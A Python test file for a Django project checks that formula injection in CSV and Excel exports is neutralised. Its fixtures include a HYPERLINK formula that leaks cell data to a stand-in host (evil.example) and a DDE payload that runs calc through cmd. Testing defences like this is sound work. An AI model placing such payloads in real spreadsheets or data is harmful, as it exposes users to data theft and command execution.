"""Spreadsheet formulas in names come out of every export as text (issue 10 item 7): one
sanitiser (atlas.core.spreadsheets) behind the admin's CSV and Excel, ``export_data`` and
the API's CSV."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils.safestring import mark_safe
from openpyxl import load_workbook

from atlas.core.spreadsheets import FORMULA_PREFIXES, csv_cell, xlsx_row
from tests.factories import LocationFactory, OrganizationFactory, ServiceFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
EVIL_ORG = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def evil():
    organization = OrganizationFactory(name=EVIL_ORG)
    return ServiceFactory(
        organization=organization, name=EVIL, locations=[LocationFactory(name="-2+3")]
    )


def _admin_export(client, editor, model, action, ids):
    client.force_login(editor)
    return client.post(
        reverse(f"admin:providers_{model}_changelist"),
        {"action": action, "_selected_action": ids},
    )


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_formula_prefix_is_defused_in_csv(prefix):
    assert csv_cell(f"{prefix}1+1") == f"'{prefix}1+1"


def test_numbers_and_plain_text_stay_as_they_are():
    assert csv_cell(-5) == -5
    assert csv_cell("Kita Sonnenschein") == "Kita Sonnenschein"
    assert csv_cell(None) == ""
    assert csv_cell(True) == "true" and csv_cell(False) == "false"
    assert csv_cell(datetime.date(2026, 12, 5)) == "2026-12-05"
    assert csv_cell(2.5) == 2.5
    assert csv_cell("") == ""


def test_text_of_a_str_subclass_is_defused_too():
    """csv_cell's fast path takes exact ``str``; marked-safe or translated text (subclasses)
    goes the long way and must still be defused."""
    assert csv_cell(mark_safe("=HYPERLINK(1)")) == "'=HYPERLINK(1)"
    assert csv_cell(mark_safe("Kita")) == "Kita"


def test_admin_csv_defuses_names(client, editor, evil):
    response = _admin_export(client, editor, "service", "export_csv", [evil.pk])
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["name"] == f"'{EVIL}"
    assert rows[0]["organization"] == f"'{EVIL_ORG}"


def test_admin_excel_keeps_names_as_text_not_formulas(client, editor, evil):
    response = _admin_export(client, editor, "service", "export_xlsx", [evil.pk])
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    name = row[header.index("name")]
    organization = row[header.index("organization")]
    assert name.data_type == "s" and name.value == EVIL
    assert organization.data_type == "s" and organization.value == EVIL_ORG


def test_admin_excel_of_locations_defuses_too(client, editor, evil):
    location = evil.locations.get()
    response = _admin_export(client, editor, "location", "export_xlsx", [location.pk])
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for cell in sheet[2] if cell.value == "-2+3"]
    assert cells and cells[0].data_type == "s"


def test_export_data_command_defuses_names(evil, tmp_path):
    out = io.StringIO()
    call_command("export_data", "services", stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
    assert rows[0]["name"] == f"'{EVIL}"
    target = tmp_path / "services.xlsx"
    call_command(
        "export_data", "services", "--format", "xlsx", "-o", str(target), stderr=io.StringIO()
    )
    sheet = load_workbook(target).active
    header = [cell.value for cell in sheet[1]]
    assert sheet[2][header.index("name")].data_type == "s"


def test_api_csv_defuses_names(client, evil):
    response = client.get("/api/v1/services/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name"] == f"'{EVIL}"
    assert rows[0]["organization"] == f"'{EVIL_ORG}"
    assert rows[0]["location_name"] == "'-2+3"


def test_the_excel_row_helper_marks_only_formula_text(evil):
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet()
    row = xlsx_row(sheet, ["=1+1", "Text", 3, None])
    assert row[0].data_type == "s" and row[1:] == ["Text", 3, ""]
